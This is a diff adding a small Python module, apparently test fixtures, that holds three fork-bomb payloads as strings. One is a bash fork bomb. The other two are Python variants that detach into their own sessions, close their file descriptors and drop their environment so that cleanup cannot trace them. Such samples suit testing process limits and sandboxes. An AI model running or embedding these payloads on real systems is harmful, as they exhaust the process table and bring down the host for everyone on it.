@@ -1,0 +1,19 @@
+"""Programs that take all the processes there may be."""
+
+from __future__ import annotations
+
+SHELL_BOMB = "bomb() { bomb | bomb & }; bomb; sleep 1000"
+UNMARKED = """
+import os
+while True:
+    try:
+        if os.fork() == 0:
+            os.setsid()
+            os.closerange(0, 300)
+            if os.fork():
+                os._exit(0)
+    except OSError:
+        pass
+"""
+UNKNOWN = f"import os, sys; os.execve(sys.executable, [sys.executable, '-c', {UNMARKED!r}], {{}})"
+"""Its processes have sessions of their own, no file of the script's, and no environment that marks them."""
